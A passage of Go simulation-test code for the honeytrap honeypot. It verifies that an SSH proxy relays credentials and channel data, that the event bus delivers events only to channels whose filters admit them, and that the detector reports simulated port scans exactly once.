			f := strings.Fields(l[i+6:])
			if len(f) == 2 && f[1] != wantDial {
				res.Violate("dial-to-foreign-address", site, fmt.Sprintf("the proxy dialled %s %s, the configured backend is %s", f[0], f[1], wantDial))
				return res
			}
			res.probe("dials", 1)
		}
	}
	if decoy > 0 {
		res.Violate("decoy-contacted", site, fmt.Sprintf("the decoy backend saw %d connections", decoy))
		return res
	}
	lg.mu.Lock()
	defer lg.mu.Unlock()
	played := map[string]bool{} // (a minimised scenario may have lost some of its clients)
	srcOf := map[string]string{}
	for _, a := range sc.Actors {
		for _, o := range a.Ops {
			if o.K == "c15ssh" {
				var c c15SSHClient
				json.Unmarshal(o.Exp, &c)
				played[c.User] = true
				srcOf[c.User] = a.Src
			}
		}
	}
	for ai, cl := range p.SSH {
		if !played[cl.User] {
			continue
		}
		out := outs[cl.User]
		if out == nil || !out.Done {
			res.Violate("client-never-finished", site, fmt.Sprintf("client %d (%s) is still waiting after the drain (logged in: %v, output so far %d bytes)", ai, cl.User, out != nil && out.LoggedIn, func() int {
				if out == nil {
					return 0
				}
				return len(out.Output)
			}()))
			return res
		}
		// credentials: every password the client presented reached the backend for that user, in order
		got := lg.Auth[cl.User]
		if strings.Join(got, "\x00") != strings.Join(out.Attempts, "\x00") {
			res.Violate("credentials-not-relayed", site, fmt.Sprintf("client %d (%s) presented passwords %q; the backend was tried with %q", ai, cl.User, out.Attempts, got))
			return res
		}
		wantLogin := false
		for _, pw := range out.Attempts {
			if pw == cl.Accept {
				wantLogin = true
			}
		}
		if out.LoggedIn != wantLogin {
			res.Violate("login-result-differs-from-backend", site, fmt.Sprintf("client %d (%s): backend accepts %q, attempts %q, the proxy let the client in: %v (%s)", ai, cl.User, cl.Accept, out.Attempts, out.LoggedIn, out.Err))
			return res
		}
		// one password-authentication event per attempt, attributed to the client
		var evpw []string
		for _, e := range obs.Events {
			if e.M["type"] == "password-authentication" && fmt.Sprint(e.M["ssh.username"]) == cl.User {
				if eventSrc(e.M) != srcOf[cl.User] {
					res.Violate("event-carries-other-address", site, fmt.Sprintf("authentication event of %s attributed to %s, client is %s", cl.User, eventSrc(e.M), srcOf[cl.User]))
					return res
				}
				evpw = append(evpw, fmt.Sprint(e.M["ssh.password"]))
			}
		}
		if strings.Join(evpw, "\x00") != strings.Join(out.Attempts, "\x00") {
			res.Violate("relay-not-reported", site, fmt.Sprintf("client %d (%s) presented %q, authentication events record %q", ai, cl.User, out.Attempts, evpw))
			return res
		}
		res.probe("ssh-attempts-verified", len(out.Attempts))
		if !out.LoggedIn {
			continue
		}
		if out.Err != "" && !cl.Leave {
			res.Violate("channel-not-relayed", site, fmt.Sprintf("client %d (%s): %s", ai, cl.User, out.Err))
			return res
		}
		// channel requests: same types and payloads, in order
		var wantR, gotR []string
		for _, rq := range cl.Requests {
			wantR = append(wantR, rq.Type+":"+rq.Payload)
		}
		for _, rq := range lg.Requests[cl.User] {
			gotR = append(gotR, rq.Type+":"+rq.Payload)
		}
		if cl.Leave {
			// the client dropped the connection: the backend saw a prefix of the requests, nothing else
			if len(gotR) > len(wantR) || strings.Join(gotR, "|") != strings.Join(wantR[:len(gotR)], "|") {
				res.Violate("channel-requests-changed", site, fmt.Sprintf("client %d (%s) sent requests %q and left; the backend received %q", ai, cl.User, wantR, gotR))
				return res
			}
			continue
		}
		if strings.Join(gotR, "|") != strings.Join(wantR, "|") {
			res.Violate("channel-requests-changed", site, fmt.Sprintf("client %d (%s) sent requests %q; the backend received %q", ai, cl.User, wantR, gotR))
			return res
		}
		for i, rq := range cl.Requests {
			if rq.Want && i < len(out.Replies) && !out.Replies[i] {
				res.Violate("request-reply-changed", site, fmt.Sprintf("client %d (%s): the backend accepted request %s, the client was told it failed", ai, cl.User, rq.Type))
				return res
			}
		}
		in, _ := hex.DecodeString(cl.Stdin)
		if cl.QuickExit && bytes.HasPrefix(in, lg.Stdin[cl.User]) {
			// the command ended without reading its input to the end
		} else if !bytes.Equal(lg.Stdin[cl.User], in) {
			res.Violate("channel-data-not-relayed-to-backend", site, fmt.Sprintf("client %d (%s) wrote %d bytes to the channel, the backend read %d bytes (equal prefix %d)", ai, cl.User, len(in), len(lg.Stdin[cl.User]), commonPrefix(in, lg.Stdin[cl.User])))
			return res
		}
		wantOut, _ := hex.DecodeString(cl.Output)
		if !bytes.Equal(out.Output, wantOut) {
			res.Violate("channel-data-not-relayed-to-client", site, fmt.Sprintf("client %d (%s): the backend wrote %d bytes, the client read %d bytes (equal prefix %d)", ai, cl.User, len(wantOut), len(out.Output), commonPrefix(wantOut, out.Output)))
			return res
		}
		// the requests are on record
		seen := map[string]int{}
		for _, e := range obs.Events {
			if e.M["type"] == "ssh-request" && eventSrc(e.M) == srcOf[cl.User] {
				seen[fmt.Sprint(e.M["ssh.request-type"])]++
			}
		}
		for _, rq := range cl.Requests {
			if seen[rq.Type] == 0 {
				res.Violate("relay-not-reported", site, fmt.Sprintf("client %d (%s): no ssh-request event for %s", ai, cl.User, rq.Type))
				return res
			}
		}
		res.probe("ssh-sessions-verified", 1)
		if cl.Hold {
			res.probe("ssh-slow-reader-sessions", 1)
			if cl.QuickExit {
				res.probe("ssh-slow-reader-after-exit", 1)
			}
		}
	}
	return res
}

func commonPrefix(a, b []byte) int {
	n := 0
	for n < len(a) && n < len(b) && a[n] == b[n] {
		n++
	}
	return n
}
