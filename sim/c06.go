package htsim

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"github.com/honeytrap/honeytrap/event"
	"github.com/honeytrap/honeytrap/pushers"
)

// C06 — every event reaches exactly the channels whose filters admit it.
//
// Real Run() wiring from generated channel/filter configurations; events are put on the bus handle
// the services receive (a stub service hands it to the harness) by 1-3 interleaved sender actors and
// by a real service (redis) handling simulated connections; one channel may be slow.  Oracle:
// reference model of the statement + "removing an unrelated channel changes nothing" (metamorphic).

func init() {
	engines["C06"] = &Engine{Gen: genC06, Run: runC06}
}

type c06Filter struct {
	Channels   []string `json:"channels"`
	Categories []string `json:"categories"` // nil = absent
	Services   []string `json:"services"`
	HasCat     bool     `json:"has_cat"`
	HasSvc     bool     `json:"has_svc"`
}

type c06Params struct {
	Channels []string    `json:"channels"`
	Filters  []c06Filter `json:"filters"`
	Slow     string      `json:"slow,omitempty"`
	SlowMs   int64       `json:"slow_ms,omitempty"`
}

// evSpec is carried in Op.Exp of "emit" ops.
type evSpec struct {
	Serial   int     `json:"serial"`
	Category *string `json:"category,omitempty"` // nil = missing
	Service  *string `json:"service,omitempty"`
	CatInt   bool    `json:"cat_int,omitempty"` // category stored as a non-string value
	CatOdd   string  `json:"cat_odd,omitempty"` // which non-string value: "" = an int, "bytes" = []byte(CatText), "stringer" = a fmt.Stringer printing CatText
	CatText  string  `json:"cat_text,omitempty"`
	SvcOdd   string  `json:"svc_odd,omitempty"`
	SvcText  string  `json:"svc_text,omitempty"`
	// OwnToken: the event reaches the bus already carrying a "token" key (attributes copied in from a peer, or an
	// event relayed from elsewhere): 1 = a foreign string, 2 = a number.  What is delivered carries the sensor's token.
	OwnToken int  `json:"own_token,omitempty"`
	SvcInt   bool `json:"svc_int,omitempty"`
}

var c06Regex = []string{"ssh", "^ssh$", "redis", "^redis", "ftp|redis", "^(ssh|telnet)$", ".*", "^$", "heartbeat", "s", "[0-9]+", "x^"}
var c06Cats = []string{"ssh", "redis", "ftp", "telnet", "sshd", "heartbeat", "", "portscan", "123"}
var c06Svcs = []string{"ssh", "redis", "ftp", "services", "", "x"}

func c06Config(p *c06Params) string {
	var b strings.Builder
	b.WriteString("\n[listener]\ntype=\"socket\"\n")
	for _, c := range p.Channels {
		fmt.Fprintf(&b, "\n[channel.%s]\ntype=\"capture\"\nname=%s\n", c, tomlStr(c))
	}
	for _, f := range p.Filters {
		b.WriteString("\n[[filter]]\n")
		var q []string
		for _, c := range f.Channels {
			q = append(q, tomlStr(c))
		}
		fmt.Fprintf(&b, "channel=[%s]\n", strings.Join(q, ","))
		if f.HasCat {
			q = nil
			for _, c := range f.Categories {
				q = append(q, tomlStr(c))
			}
			fmt.Fprintf(&b, "categories=[%s]\n", strings.Join(q, ","))
		}
		if f.HasSvc {
			q = nil
			for _, c := range f.Services {
				q = append(q, tomlStr(c))
			}
			fmt.Fprintf(&b, "services=[%s]\n", strings.Join(q, ","))
		}
	}
	b.WriteString("\n[service.bus]\ntype=\"stub\"\nname=\"bus\"\n\n[service.redis0]\ntype=\"redis\"\n\n[[port]]\nport=\"tcp/6379\"\nservices=[\"redis0\"]\n\n[[port]]\nport=\"tcp/9\"\nservices=[\"bus\"]\n")
	return b.String()
}

func genC06(seed uint64, idx int, tier string) *Scenario {
	r := NewRng(seed, "c06")
	var p c06Params
	nc := r.Range(1, 3)
	for i := 0; i < nc; i++ {
		p.Channels = append(p.Channels, fmt.Sprintf("c%d", i))
	}
	nf := r.Range(0, 4)
	names := append(append([]string{}, p.Channels...), "nosuch")
	for i := 0; i < nf; i++ {
		var f c06Filter
		for k := r.Range(1, 3); k > 0; k-- {
			f.Channels = append(f.Channels, r.Pick(names))
		}
		if r.Chance(0.6) {
			f.HasCat = true
			for k := r.Range(0, 3); k > 0; k-- {
				f.Categories = append(f.Categories, r.Pick(c06Regex))
			}
		}
		if r.Chance(0.4) {
			f.HasSvc = true
			for k := r.Range(0, 2); k > 0; k-- {
				f.Services = append(f.Services, r.Pick(c06Regex))
			}
		}
		p.Filters = append(p.Filters, f)
	}
	var faults []string
	if r.Chance(0.25) {
		p.Slow = r.Pick(p.Channels)
		p.SlowMs = int64(r.Range(1, 3000))
		faults = append(faults, "slow-channel")
	}
	sc := &Scenario{Engine: "c06", Faults: faults}
	sc.Config = c06Config(&p)
	pj, _ := json.Marshal(p)
	var pm map[string]interface{}
	json.Unmarshal(pj, &pm)
	sc.Params = pm
	serial := 0
	ns := r.Range(1, 3)
	for s := 0; s < ns; s++ {
		a := Actor{Kind: "sender", Name: fmt.Sprintf("sender%d", s)}
		for k := r.Range(1, 8); k > 0; k-- {
			serial++
			e := evSpec{Serial: serial}
			switch r.Intn(8) {
			case 0: // missing category
			case 1:
				e.CatInt = true
				if r.Chance(0.6) {
					// a non-string value whose text a filter expression would match: bytes or a fmt.Stringer
					e.CatOdd = r.Pick([]string{"bytes", "stringer"})
					e.CatText = r.Pick(c06Cats)
				}
			default:
				c := r.Pick(c06Cats)
				e.Category = &c
			}
			switch r.Intn(6) {
			case 0:
			case 1:
				e.SvcInt = true
				if r.Chance(0.6) {
					e.SvcOdd = r.Pick([]string{"bytes", "stringer"})
					e.SvcText = r.Pick(c06Svcs)
				}
			default:
				c := r.Pick(c06Svcs)
				e.Service = &c
			}
			if r.Chance(0.1) {
				e.OwnToken = r.Range(1, 2)
			}
			ej, _ := json.Marshal(e)
			a.Ops = append(a.Ops, Op{K: "emit", Exp: ej})
		}
		sc.Actors = append(sc.Actors, a)
	}
	if r.Chance(0.5) && p.Slow == "" { // events produced by a real service (not combined with the slow-channel fault: a handler parked in a slow channel legitimately loses a client that leaves)
		a := Actor{Kind: "tcp", Src: clientAddr(7), Dst: sensorIP + ":6379", Svc: "redis"}
		for k := r.Range(1, 3); k > 0; k-- {
			a.Ops = append(a.Ops, SendOp(respArray(fmt.Sprintf("CMD%d", k)), nil, ""))
		}
		// the client stays until the server has surely answered (a slow channel delays the handler);
		// closing early would legitimately end the dialogue
		a.Ops = append(a.Ops, Op{K: "sleep", Ms: 29000}, Op{K: "close"})
		sc.Actors = append(sc.Actors, a)
	}
	sc.Schedule = r.Schedule(40)
	if r.Chance(0.4) {
		for i := range sc.Schedule {
			if r.Chance(0.4) {
				sc.Schedule[i] |= 1<<16 | r.Intn(4)<<17
			}
		}
		if r.Chance(0.5) {
			// senders released in the same step give way to each other at the bus's synchronisation points
			if r.Chance(0.5) {
				sc.Params["yield_pct"] = []int{20, 50, 80}[r.Intn(3)]
			} else {
				sc.Params["yield_pct"] = 50
				sc.Params["yield_hot"] = []int{20, 40}[r.Intn(2)]
			}
			sc.Params["yield_rounds"] = []int{1, 1, 4, 12}[r.Intn(4)]
		}
	}
	sc.Class = fmt.Sprintf("channels=%d filters=%d senders=%d%s", nc, nf, ns, map[bool]string{true: " slow", false: ""}[p.Slow != ""])
	sc.DrainMs = 35000
	if p.Slow != "" {
		sc.DrainMs = 600000 // liveness is judged after the backlog of the slow channel has drained
	}
	return sc
}

type c06Stringer struct{ s string }

func (c c06Stringer) String() string { return c.s }

func c06Odd(kind, text string, def int) interface{} {
	switch kind {
	case "bytes":
		return []byte(text)
	case "stringer":
		return c06Stringer{text}
	}
	return def
}

func specValue(s *string, isInt bool) string {
	if isInt || s == nil {
		return "" // missing or non-string: matched as the empty string
	}
	return *s
}

func anyMatch(exprs []string, v string) bool {
	for _, e := range exprs {
		if regexp.MustCompile(e).MatchString(v) {
			return true
		}
	}
	return false
}

// c06Expected: how many times channel ch must receive an event with these category/service values.
func c06Expected(p *c06Params, ch, cat, svc string) int {
	n := 0
	for _, f := range p.Filters {
		for _, c := range f.Channels {
			if c != ch {
				continue
			}
			okc := len(f.Categories) == 0 || anyMatch(f.Categories, cat)
			oks := len(f.Services) == 0 || anyMatch(f.Services, svc)
			if okc && oks {
				n++
			}
		}
	}
	return n
}

type c06Got struct {
	// per channel: ordered list of "actor:serial" (senders) / "redis:<cmd>" keys
	PerChannel map[string][]string
	BadToken   string
	Emitted    map[string][2]string // key -> (category, service) as matched
	Order      map[string][]string  // per sender the emission order of keys
}

func c06Run(t *testing.T, sc *Scenario, p *c06Params) (*Obs, *c06Got) {
	stubHub.reset()
	got := &c06Got{PerChannel: map[string][]string{}, Emitted: map[string][2]string{}, Order: map[string][]string{}}
	token, _ := os.ReadFile(filepath.Join(os.Getenv("VERIF_DATADIR_TEMPLATE"), "token"))
	obs := RunScenario(t, sc, func(w *World) {
		if err := w.bootServer(sc.Config); err != nil {
			w.Obs.BootErr = err.Error()
			return
		}
		if p.Slow != "" {
			hub.mu.Lock()
			hub.slowMs[p.Slow] = p.SlowMs
			hub.mu.Unlock()
		}
		bus := stubHub.Bus
		queues := map[int]chan event.Event{}
		if bus == nil {
			w.Obs.BootErr = "no bus handle"
			return
		}
		w.Custom = func(w *World, ai int, op Op) {
			var e evSpec
			json.Unmarshal(op.Exp, &e)
			key := fmt.Sprintf("%s:%d", w.Sc.Actors[ai].Name, e.Serial)
			opts := []event.Option{event.Custom("serial", key)}
			if e.CatInt {
				opts = append(opts, event.Custom("category", c06Odd(e.CatOdd, e.CatText, 42)))
			} else if e.Category != nil {
				opts = append(opts, event.Category(*e.Category))
			}
			if e.SvcInt {
				opts = append(opts, event.Custom("service", c06Odd(e.SvcOdd, e.SvcText, 7)))
			} else if e.Service != nil {
				opts = append(opts, event.Service(*e.Service))
			}
			got.Emitted[key] = [2]string{specValue(e.Category, e.CatInt), specValue(e.Service, e.SvcInt)}
			got.Order[w.Sc.Actors[ai].Name] = append(got.Order[w.Sc.Actors[ai].Name], key)
			switch e.OwnToken {
			case 1:
				opts = append(opts, event.CopyFrom(map[string]interface{}{"token": "aaaaaaaaaaaaaaaaaaaa"}))
			case 2:
				opts = append(opts, event.Custom("token", 42))
			}
			ev := event.New(opts...)
			// a sender is its own goroutine (it may park in a slow channel); it sends sequentially
			q, ok := queues[ai]
			if !ok {
				q = make(chan event.Event, 64)
				queues[ai] = q
				go func() {
					for e := range q {
						bus.Send(e)
					}
				}()
			}
			q <- ev
		}
		w.Play()
		w.Drain()
		_ = synctest.Wait
		_ = time.Now
	})
	for _, e := range obs.Events {
		if _, mine := e.M["serial"]; !mine && isHeartbeat(e.M) {
			continue
		}
		if tk, _ := e.M["token"].(string); tk != string(token) || tk == "" {
			got.BadToken = fmt.Sprintf("event on channel %s carries token %q, sensor token is %q", e.Channel, tk, string(token))
		}
		var key string
		if s, ok := e.M["serial"].(string); ok {
			key = s
		} else if c, ok := e.M["redis.command"].(string); ok {
			key = "redis:" + c
			got.Emitted[key] = [2]string{"redis", ""}
		} else {
			continue
		}
		got.PerChannel[e.Channel] = append(got.PerChannel[e.Channel], key)
	}
	return obs, got
}

func runC06(t *testing.T, sc *Scenario) Result {
	res := okResult()
	var p c06Params
	b, _ := json.Marshal(sc.Params)
	json.Unmarshal(b, &p)
	obs, got := c06Run(t, sc, &p)
	res.Digest = traceDigest(obs, nil)
	res.Steps, res.SimMs = obs.Steps, obs.SimMs
	res.Nontriv = len(p.Filters) > 0
	if obs.BootErr != "" {
		res.Violate("infra", "boot", obs.BootErr)
		return res
	}
	if p.Slow != "" {
		res.fault("slow-channel", 1)
	}
	if got.BadToken != "" {
		res.Violate("token-missing-or-wrong", "token", got.BadToken)
		return res
	}
	// redis events the real service must have produced
	for ai, a := range sc.Actors {
		if a.Kind != "tcp" {
			continue
		}
		for oi, o := range a.Ops {
			if o.K == "send" {
				_ = oi
				cmd := strings.Split(strings.Split(string(o.Bytes()), "\r\n")[2], "\r\n")[0]
				got.Emitted["redis:"+cmd] = [2]string{"redis", ""}
				got.Order[fmt.Sprintf("tcp%d", ai)] = append(got.Order[fmt.Sprintf("tcp%d", ai)], "redis:"+cmd)
			}
		}
	}
	if k, s, d := c06Check(&p, got); k != "" {
		res.Violate(k, s, d)
		return res
	}
	res.probe("deliveries", func() int {
		n := 0
		for _, l := range got.PerChannel {
			n += len(l)
		}
		return n
	}())
	// metamorphic: remove one channel (and its mentions) — the others must receive the same lists
	if len(p.Channels) > 1 {
		victim := p.Channels[int(sc.Seed%uint64(len(p.Channels)))]
		q := p
		q.Channels = nil
		for _, c := range p.Channels {
			if c != victim {
				q.Channels = append(q.Channels, c)
			}
		}
		q.Filters = nil
		for _, f := range p.Filters {
			nf := f
			nf.Channels = nil
			for _, c := range f.Channels {
				if c != victim {
					nf.Channels = append(nf.Channels, c)
				}
			}
			q.Filters = append(q.Filters, nf)
		}
		if q.Slow == victim {
			q.Slow = ""
		}
		sc2 := sc.Clone()
		sc2.Config = c06Config(&q)
		_, got2 := c06Run(t, sc2, &q)
		res.Runs = 2
		for _, c := range q.Channels {
			a, bb := sortedCopy(got.PerChannel[c]), sortedCopy(got2.PerChannel[c])
			if strings.Join(a, ",") != strings.Join(bb, ",") {
				res.Violate("channel-depends-on-other-channels", "bus", fmt.Sprintf("channel %s received %v with channel %s configured and %v without it", c, a, victim, bb))
				return res
			}
		}
		res.probe("metamorphic-removals", 1)
	}
	return res
}

func sortedCopy(x []string) []string {
	y := append([]string(nil), x...)
	sortStrings(y)
	return y
}

func c06Check(p *c06Params, got *c06Got) (kind, site, detail string) {
	for _, ch := range p.Channels {
		counts := map[string]int{}
		for _, k := range got.PerChannel[ch] {
			counts[k]++
		}
		var keys []string
		for k := range got.Emitted {
			keys = append(keys, k)
		}
		sortStrings(keys)
		for _, k := range keys {
			cs := got.Emitted[k]
			want := c06Expected(p, ch, cs[0], cs[1])
			if counts[k] != want {
				kind := "event-not-delivered"
				if counts[k] > want {
					kind = "event-delivered-too-often"
				}
				return kind, "bus", fmt.Sprintf("channel %s received event %s (category %q service %q) %d times, the filters admit it %d times; filters=%+v", ch, k, cs[0], cs[1], counts[k], want, p.Filters)
			}
		}
		for k := range counts {
			if _, ok := got.Emitted[k]; !ok {
				return "unknown-event-delivered", "bus", fmt.Sprintf("channel %s received %s which nobody sent", ch, k)
			}
		}
		// sending order per sender
		if p.Slow == "" {
			for sender, order := range got.Order {
				pos := map[string]int{}
				for i, k := range order {
					pos[k] = i
				}
				last := -1
				for _, k := range got.PerChannel[ch] {
					i, mine := pos[k]
					if !mine {
						continue
					}
					if i < last {
						return "delivery-out-of-order", "bus", fmt.Sprintf("channel %s received %s's events out of sending order: %v", ch, sender, got.PerChannel[ch])
					}
					last = i
				}
			}
		}
	}
	for ch := range got.PerChannel {
		found := false
		for _, c := range p.Channels {
			if c == ch {
				found = true
			}
		}
		if !found {
			return "delivery-to-unconfigured-channel", "bus", "channel " + ch
		}
	}
	return "", "", ""
}

var _ pushers.Channel = (*captureChannel)(nil)
