package htsim

import (
	"encoding/json"
	"fmt"
	"net"
	"sort"
	"strings"
	"testing"
	"testing/synctest"
	"time"
)

// C20 — a port scan is reported once, listing exactly the ports probed.
//
// Bursts of probes (TCP SYN, UDP to ports without decoder, ICMP echo) from 1-4 sources as frames into
// the simulated NIC; the fake clock drives the detector's 5 s timer.  Oracle over the port-scan events
// of the whole run: per source the union of listed ports equals the set probed, every pair is listed
// once per burst, sources are reported separately, nothing is reported again without new probes.

func init() {
	engines["C20"] = &Engine{Gen: genC20, Run: runC20}
}

type c20Probe struct {
	Proto string `json:"p"` // tcp | udp | icmp
	Port  int    `json:"port,omitempty"`
	Burst int    `json:"b"`
	Sport int    `json:"sport,omitempty"` // fixed source port (0: a fresh one per probe)
	// Pad: the frame is padded to the Ethernet minimum of 60 bytes behind the IP datagram, as every short
	// frame on a real wire is (a SYN without options, an empty UDP probe)
	Pad bool `json:"pad,omitempty"`
	// Empty: a UDP probe without payload
	Empty bool `json:"empty,omitempty"`
}

func genC20(seed uint64, idx int, tier string) *Scenario {
	r := NewRng(seed, "c20")
	sc := &Scenario{Engine: "c20", Params: map[string]interface{}{}}
	ns := r.Range(1, 4)
	nc := rawNetConfig{GatewayRoute: true, GatewayARP: true}
	class := []string{}
	for s := 0; s < ns; s++ {
		ip := fmt.Sprintf("10.0.%d.%d", s, 20+s)
		if r.Chance(0.75) {
			nc.ARPPeers = append(nc.ARPPeers, ip)
		} // else: a scanner the sensor has no ARP entry for (answered through the gateway, or not at all)
		a := Actor{Kind: "scanner", Name: ip, Src: ip}
		protos := [][]string{{"tcp"}, {"udp"}, {"icmp"}, {"tcp", "udp"}, {"tcp", "udp", "icmp"}}[r.Intn(5)]
		nb := 1
		if r.Chance(0.3) {
			nb = 2
		}
		// some scanners probe from one fixed source port (every SYN of a repeat scan then hits a 4-tuple the
		// listener may still be tracking)
		fixedSport := 0
		if r.Chance(0.3) {
			fixedSport = r.Range(30000, 60000)
		}
		var prevPorts []int
		for b := 0; b < nb; b++ {
			n := r.Range(1, 12)
			if r.Chance(0.1) {
				n = r.Range(101, 150) // the count path
				class = append(class, "over100")
			}
			nports := r.Range(1, 6)
			ports := make([]int, nports)
			for i := range ports {
				ports[i] = r.Range(1024, 60000)
				if b > 0 && len(prevPorts) > 0 && r.Chance(0.6) {
					ports[i] = prevPorts[r.Intn(len(prevPorts))] // the repeat scan overlaps the first one
				}
				for ports[i] == 1900 || ports[i] == 5060 || ports[i] == 1433 || ports[i] == 6379 || ports[i] == 9200 {
					ports[i]++ // ports with a protocol decoder are not "ports without a decoder"
				}
			}
			prevPorts = ports
			for i := 0; i < n; i++ {
				p := c20Probe{Proto: r.Pick(protos), Burst: b, Sport: fixedSport, Pad: r.Chance(0.5), Empty: r.Chance(0.4)}
				if p.Proto != "icmp" {
					p.Port = ports[r.Intn(nports)] // repeated ports
				}
				ej, _ := json.Marshal(p)
				a.Ops = append(a.Ops, Op{K: "probe", Exp: ej})
				if r.Chance(0.03) {
					a.Ops = append(a.Ops, Op{K: "eintr"}) // epoll_wait is interrupted: the loop must simply go on
				}
				if g := []int64{0, 0, 0, 10, 1000, 4000}[r.Intn(6)]; g > 0 && i < n-1 {
					a.Ops = append(a.Ops, Op{K: "sleep", Ms: g})
				}
			}
			if b < nb-1 {
				a.Ops = append(a.Ops, Op{K: "sleep", Ms: int64(r.Range(75000, 200000))})
			}
		}
		class = append(class, strings.Join(protos, "+"))
		sc.Actors = append(sc.Actors, a)
	}
	if r.Chance(0.15) {
		// a flood arrives while the detector is busy delivering another source's report through a
		// slow channel: more knocks are outstanding than the knock queue holds
		ipA, ipB := "10.0.8.30", "10.0.9.31"
		nc.ARPPeers = append(nc.ARPPeers, ipA, ipB)
		pa, _ := json.Marshal(c20Probe{Proto: "icmp"})
		fl, _ := json.Marshal(c20Probe{Proto: "tcp", Port: r.Range(2000, 3000), Burst: r.Range(101, 150)})
		sc.Actors = []Actor{
			{Kind: "scanner", Name: ipA, Src: ipA, Ops: []Op{{K: "probe", Exp: pa}}},
			{Kind: "scanner", Name: ipB, Src: ipB, Ops: []Op{{K: "sleep", Ms: 5100}, {K: "flood", Exp: fl}}},
		}
		sc.Params["slow_ms"] = r.Range(1000, 4000)
		sc.Faults = []string{"slow-channel"}
		class = []string{"flood-during-report"}
		ns = 2
	}
	if r.Chance(0.15) {
		// no usable route: replies to sources without ARP entry cannot be sent - their scans still count
		nc.GatewayRoute = r.Chance(0.5)
		nc.GatewayARP = false
	}
	nj, _ := json.Marshal(nc)
	var nm map[string]interface{}
	json.Unmarshal(nj, &nm)
	sc.Params["net"] = nm
	sc.Config = rawBaseConfig
	sc.Schedule = r.Schedule(400)
	if r.Chance(0.35) {
		// several probes (of several scanners) arrive before the listener gets to run: one step releases 2-5 frames
		for i := range sc.Schedule {
			if r.Chance(0.6) {
				sc.Schedule[i] |= 1<<16 | r.Intn(4)<<17
			}
		}
		class = append(class, "frames-in-batches")
	}
	if len(sc.Faults) > 0 {
		sc.Schedule = nil // strictly: A's probe first, then B
	}
	sort.Strings(class)
	sc.Class = fmt.Sprintf("sources=%d %s", ns, strings.Join(class, ","))
	sc.DrainMs = 600000
	return sc
}

func runC20(t *testing.T, sc *Scenario) Result {
	res := okResult()
	var nc rawNetConfig
	b, _ := json.Marshal(sc.Params["net"])
	json.Unmarshal(b, &nc)
	type burstKey struct {
		src   string
		burst int
	}
	probed := map[burstKey]map[string]bool{} // burst -> set of proto/port
	lastProbeMs := map[string]int64{}
	burstNo := map[string]int{}
	ambiguous := map[string]bool{}
	sportCtr := 0
	obs := RunScenario(t, sc, func(w *World) {
		var sys *SimSys
		w.PreBoot = func(dir string) { sys = installSimSys(dir, nc, &w.step) }
		if err := w.bootServer(sc.Config); err != nil {
			w.Obs.BootErr = err.Error()
			return
		}
		if ms := sc.ParamInt("slow_ms", 0); ms > 0 {
			hub.mu.Lock()
			hub.slowMs["cap"] = int64(ms)
			hub.mu.Unlock()
		}
		w.Custom = func(w *World, ai int, op Op) {
			var p c20Probe
			json.Unmarshal(op.Exp, &p)
			a := &w.Sc.Actors[ai]
			ip := net.ParseIP(a.Src).To4()
			if op.K == "flood" {
				// p.Burst SYNs to consecutive ports, all delivered before the listener runs again
				for k := 0; k < p.Burst; k++ {
					sportCtr++
					port := p.Port + k
					pkt := ipv4Packet(ip, sensorRaw, 6, uint16(sportCtr), tcpSegment(ip, sensorRaw, uint16(20000+sportCtr%30000), uint16(port), uint32(sportCtr)*7919, 0, tcpSYN, 1024, nil, nil))
					sys.Inject(ethFrame(sensorMAC, peerMAC(ip), 0x0800, pkt))
					bk := burstKey{a.Src, 0}
					if probed[bk] == nil {
						probed[bk] = map[string]bool{}
					}
					probed[bk][fmt.Sprintf("tcp/%d", port)] = true
				}
				lastProbeMs[a.Src] = w.nowMs()
				return
			}
			if op.K == "eintr" {
				sys.InjectEINTR(1)
				return
			}
			if op.K != "probe" {
				return
			}
			sportCtr++
			sport := uint16(20000 + sportCtr%30000)
			if p.Sport != 0 {
				sport = uint16(p.Sport)
			}
			var pkt []byte
			key := p.Proto
			switch p.Proto {
			case "tcp":
				pkt = ipv4Packet(ip, sensorRaw, 6, uint16(sportCtr), tcpSegment(ip, sensorRaw, sport, uint16(p.Port), uint32(sportCtr)*7919, 0, tcpSYN, 1024, nil, nil))
				key = fmt.Sprintf("tcp/%d", p.Port)
			case "udp":
				pl := []byte("x")
				if p.Empty {
					pl = nil
				}
				pkt = ipv4Packet(ip, sensorRaw, 17, uint16(sportCtr), udpDatagram(ip, sensorRaw, sport, uint16(p.Port), pl))
				key = fmt.Sprintf("udp/%d", p.Port)
			default:
				pkt = ipv4Packet(ip, sensorRaw, 1, uint16(sportCtr), icmpEcho(uint16(sportCtr), 1, []byte("ping")))
			}
			fr := ethFrame(sensorMAC, peerMAC(ip), 0x0800, pkt)
			if p.Pad && len(fr) < 60 {
				fr = append(fr, make([]byte, 60-len(fr))...)
			}
			sys.Inject(fr)
			// bursts are defined by what really happened on the simulated clock: a gap below 4.5 s keeps a
			// burst together, a gap above 11 s separates two bursts, anything between is ambiguous
			now := w.nowMs()
			if last, ok := lastProbeMs[a.Src]; ok {
				gap := now - last
				if gap > 11000 {
					burstNo[a.Src]++
				} else if gap >= 4500 {
					ambiguous[a.Src] = true
				}
			}
			bk := burstKey{a.Src, burstNo[a.Src]}
			if probed[bk] == nil {
				probed[bk] = map[string]bool{}
			}
			probed[bk][key] = true
			lastProbeMs[a.Src] = w.nowMs()
		}
		w.Play()
		synctest.Wait()
		// observe long enough for every timer to fire and for repeated reports to show
		for _, ms := range []int64{1000, 5000, 5000, 60000, 60000, 120000, 349000} {
			w.step++
			hub.setStep(w.step)
			time.Sleep(time.Duration(ms) * time.Millisecond)
			synctest.Wait()
		}
		w.Obs.Extra["eintr"] = sys.EINTRs
	})
	if n, _ := obs.Extra["eintr"].(int); n > 0 {
		res.fault("epoll-eintr", n)
	}
	res.Digest = traceDigest(obs, map[string]bool{"portscan.duration": true})
	res.Steps, res.SimMs = obs.Steps, obs.SimMs
	res.Nontriv = len(sc.Actors) > 1
	if obs.BootErr != "" {
		res.Violate("infra", "boot", obs.BootErr)
		return res
	}
	// collect port-scan events per source
	type ev struct {
		ports []string
		step  int
	}
	per := map[string][]ev{}
	for _, e := range obs.Events {
		if e.M["category"] != "portscan" {
			continue
		}
		src := fmt.Sprint(e.M["source-ip"])
		var ports []string
		switch v := e.M["portscan.ports"].(type) {
		case []string:
			ports = v
		default:
			ports = []string{fmt.Sprint(v)}
		}
		if fmt.Sprint(e.M["destination-ip"]) != "127.0.0.1" {
